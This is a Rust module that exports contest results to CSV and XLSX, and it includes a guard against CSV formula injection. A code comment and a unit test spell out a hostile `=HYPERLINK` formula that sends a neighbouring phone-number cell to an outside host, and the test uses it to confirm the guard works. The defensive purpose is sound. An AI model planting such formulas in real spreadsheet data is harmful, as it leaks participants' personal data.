//! Results and winners as the judges publish them (rule 12): CSV in UTF-8 with a BOM (so
//! Excel shows Vietnamese) and XLSX with a frozen header row, times in Vietnam's local time
//! (UTC+7, no daylight saving). A results CSV streams row by row, so a 1,000,000-entry
//! round is never held in memory.

use std::borrow::Cow;

use chrono::{DateTime, FixedOffset, Utc};
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use uuid::Uuid;

/// One row of a results or winners file.
#[derive(Debug, Clone, serde::Serialize, utoipa::ToSchema)]
pub struct ResultRow {
    pub rank: i32,
    pub prize: Option<String>,
    pub member_id: Uuid,
    pub attempt_id: Uuid,
    pub full_name: String,
    pub phone: Option<String>,
    pub id_number: Option<String>,
    pub unit: Option<String>,
    pub correct: i16,
    pub prediction: Option<i64>,
    pub prediction_error: Option<i64>,
    pub duration_ms: i32,
    pub submitted_at: DateTime<Utc>,
}

impl From<crate::judging::store::Winner> for ResultRow {
    fn from(w: crate::judging::store::Winner) -> Self {
        Self {
            rank: w.rank,
            prize: Some(w.prize),
            member_id: w.member_id,
            attempt_id: w.attempt_id,
            full_name: w.full_name,
            phone: w.phone,
            id_number: w.id_number,
            unit: w.unit,
            correct: w.correct,
            prediction: w.prediction,
            prediction_error: w.prediction_error,
            duration_ms: w.duration_ms,
            submitted_at: w.submitted_at,
        }
    }
}

pub const HEADERS: [&str; 13] = [
    "Hạng",
    "Giải",
    "Họ và tên",
    "Số điện thoại",
    "Số CCCD",
    "Đơn vị",
    "Số câu đúng",
    "Dự đoán",
    "Sai số dự đoán",
    "Thời gian làm bài (giây)",
    "Thời điểm nộp bài (giờ Việt Nam)",
    "Mã hội viên",
    "Mã bài thi",
];

/// Column widths in characters, for the workbook.
const WIDTHS: [f64; 13] = [
    7.0, 18.0, 28.0, 15.0, 15.0, 28.0, 11.0, 11.0, 13.0, 14.0, 24.0, 38.0, 38.0,
];

fn vietnam() -> FixedOffset {
    // UTC+7 is a valid offset: the constructor only refuses offsets of a day or more.
    FixedOffset::east_opt(7 * 3600).unwrap_or_else(|| FixedOffset::east_opt(0).expect("zero"))
}

pub fn local_time(at: DateTime<Utc>) -> String {
    at.with_timezone(&vietnam())
        .format("%d/%m/%Y %H:%M:%S%.3f")
        .to_string()
}

fn seconds(duration_ms: i32) -> String {
    format!("{}.{:03}", duration_ms / 1000, duration_ms % 1000)
}

fn cells(row: &ResultRow) -> [String; 13] {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    [
        row.rank.to_string(),
        opt(&row.prize),
        row.full_name.clone(),
        opt(&row.phone),
        opt(&row.id_number),
        opt(&row.unit),
        row.correct.to_string(),
        row.prediction.map(|p| p.to_string()).unwrap_or_default(),
        row.prediction_error
            .map(|p| p.to_string())
            .unwrap_or_default(),
        seconds(row.duration_ms),
        local_time(row.submitted_at),
        row.member_id.to_string(),
        row.attempt_id.to_string(),
    ]
}

/// The BOM and the header line.
pub fn csv_head() -> Vec<u8> {
    csv_head_with(&[])
}

/// The BOM and the header line, after columns of the caller's own.
pub fn csv_head_with(first: &[&str]) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    let fields: Vec<String> = first
        .iter()
        .chain(&HEADERS)
        .map(|h| (*h).to_owned())
        .collect();
    out.extend(csv_line(&fields));
    out
}

/// Keeps a spreadsheet from running a cell as a formula (CSV injection): members choose
/// their own names, and judges open these files in Excel, where a name such as
/// `=HYPERLINK("http://…?"&D2)` would send the phone next to it away. Text starting with
/// `=`, `+`, `-` or `@` gets a leading tab, as the bank's CSV export does
/// (`questions/formats/csv.rs`); numbers such as a negative prediction error or a `+84…`
/// phone are left as they are.
fn defuse(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err() {
        Cow::Owned(format!("\t{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn csv_line(fields: &[String]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let fields: Vec<Cow<'_, str>> = fields.iter().map(|f| defuse(f)).collect();
    // Writing to a Vec cannot fail; a failure would only drop this line.
    if writer
        .write_record(fields.iter().map(|f| f.as_bytes()))
        .is_err()
    {
        return Vec::new();
    }
    writer.into_inner().unwrap_or_default()
}

pub fn csv_row(row: &ResultRow) -> Vec<u8> {
    csv_line(&cells(row))
}

/// A row after the caller's own leading fields (see [`csv_head_with`]).
pub fn csv_row_with(first: &[String], row: &ResultRow) -> Vec<u8> {
    let fields: Vec<String> = first.iter().cloned().chain(cells(row)).collect();
    csv_line(&fields)
}

pub fn csv(rows: &[ResultRow]) -> Vec<u8> {
    let mut out = csv_head();
    for row in rows {
        out.extend(csv_row(row));
    }
    out
}

/// Data rows a worksheet holds under its header (Excel's limit is 1,048,576 rows).
pub const XLSX_MAX_ROWS: i64 = 1_048_575;

/// Bold, frozen column titles with their widths.
pub fn table_head(
    sheet: &mut Worksheet,
    headers: &[&str],
    widths: &[f64],
) -> Result<(), XlsxError> {
    let bold = Format::new().set_bold();
    for (col, (header, width)) in (0_u16..).zip(headers.iter().zip(widths)) {
        sheet.write_string_with_format(0, col, *header, &bold)?;
        sheet.set_column_width(col, *width)?;
    }
    sheet.set_freeze_panes(1, 0)?;
    Ok(())
}

/// Row `r` of a results sheet: numbers as numbers, so Excel can sort and sum them.
fn write_row(sheet: &mut Worksheet, r: u32, row: &ResultRow) -> Result<(), XlsxError> {
    sheet.write_number(r, 0, f64::from(row.rank))?;
    for (col, value) in (1_u16..).zip(cells(row).iter().skip(1)) {
        match col {
            6 => sheet.write_number(r, col, f64::from(row.correct))?,
            7 | 8 if !value.is_empty() => {
                sheet.write_number(r, col, value.parse::<f64>().unwrap_or(0.0))?
            }
            9 => sheet.write_number(r, col, f64::from(row.duration_ms) / 1000.0)?,
            _ => sheet.write_string(r, col, value)?,
        };
    }
    Ok(())
}

/// A results sheet named `name` holding `rows`, added to `workbook`.
pub fn add_results_sheet(
    workbook: &mut Workbook,
    name: &str,
    rows: &[ResultRow],
) -> Result<(), XlsxError> {
    let sheet = workbook.add_worksheet();
    sheet.set_name(name)?;
    table_head(sheet, &HEADERS, &WIDTHS)?;
    for (r, row) in (1_u32..).zip(rows) {
        write_row(sheet, r, row)?;
    }
    Ok(())
}

/// A one-sheet workbook of `rows`, built in memory: for winners and other short lists.
pub fn xlsx(sheet_name: &str, rows: &[ResultRow]) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    add_results_sheet(&mut workbook, sheet_name, rows)?;
    workbook.save_to_buffer()
}

/// Writes `rows` as a one-sheet workbook to `out`, a row at a time: the sheet is in
/// constant-memory mode (each finished row goes to a temporary file), so a 1,000,000-row
/// round takes no more memory than a small one. Blocks: call it off the async threads, with
/// the runtime's `handle` to pull rows from the database.
pub fn stream_xlsx<W>(
    handle: &tokio::runtime::Handle,
    sheet_name: &str,
    mut rows: futures_util::stream::BoxStream<'_, Result<ResultRow, sqlx::Error>>,
    out: W,
) -> anyhow::Result<u32>
where
    W: std::io::Write + std::io::Seek + Send,
{
    use futures_util::StreamExt;

    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet_with_constant_memory()?;
    sheet.set_name(sheet_name)?;
    table_head(sheet, &HEADERS, &WIDTHS)?;
    let mut written = 0_u32;
    while let Some(row) = handle.block_on(rows.next()) {
        written += 1;
        write_row(sheet, written, &row?)?;
    }
    workbook.save_to_writer(out)?;
    Ok(written)
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;

    use super::*;

    fn row() -> ResultRow {
        ResultRow {
            rank: 1,
            prize: Some("Giải Nhất".into()),
            member_id: Uuid::nil(),
            attempt_id: Uuid::nil(),
            full_name: "Nguyễn Thị Hòa".into(),
            phone: Some("+84912345678".into()),
            id_number: None,
            unit: Some("Ba Đình, Hà Nội".into()),
            correct: 20,
            prediction: Some(1234),
            prediction_error: Some(16),
            duration_ms: 75_432,
            submitted_at: Utc
                .with_ymd_and_hms(2026, 11, 23, 17, 30, 0)
                .single()
                .unwrap(),
        }
    }

    #[test]
    fn times_are_shown_in_vietnam() {
        assert_eq!(local_time(row().submitted_at), "24/11/2026 00:30:00.000");
    }

    #[test]
    fn a_csv_starts_with_a_bom_and_quotes_what_needs_it() {
        let out = String::from_utf8(csv(&[row()])).unwrap();
        assert!(out.starts_with('\u{feff}'));
        assert!(out.contains("\"Ba Đình, Hà Nội\""));
        assert!(out.contains(",75.432,"));
    }

    #[test]
    fn a_name_written_as_a_formula_is_defused_and_numbers_are_not() {
        let mut hostile = row();
        hostile.full_name = "=HYPERLINK(\"http://x/?\"&D2)".into();
        hostile.prediction_error = Some(-16);
        let out = String::from_utf8(csv_row(&hostile)).unwrap();
        assert!(out.contains(",\"\t=HYPERLINK("), "{out}");
        assert!(
            out.contains(",+84912345678,") && out.contains(",-16,"),
            "{out}"
        );
    }
}
